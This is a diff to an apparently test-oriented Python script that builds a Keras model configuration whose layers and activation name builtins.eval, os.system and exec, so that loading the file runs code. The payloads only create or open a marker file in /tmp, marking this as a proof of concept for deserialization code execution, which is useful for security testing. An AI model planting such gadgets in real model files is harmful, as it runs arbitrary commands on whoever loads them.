@@ -21,8 +21,8 @@ def make(folder: Path) -> None:
     """Name functions where layers and initializers belong."""
     shout = "open('/tmp/keras_file_with_gadgets-was-here', 'w')"
     layers = [
-        {"module": "builtins", "class_name": "eval", "config": shout, "registered_name": "eval"},
         {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/keras_file_with_gadgets-was-here"}, "registered_name": "system"},
+        {"module": "builtins", "class_name": "eval", "config": shout, "registered_name": "eval"},
         {"module": "keras.layers", "class_name": "Dense", "config": {"units": 10, "activation": {
             "module": "builtins", "class_name": "function", "config": "exec", "registered_name": "function"}}},
     ]
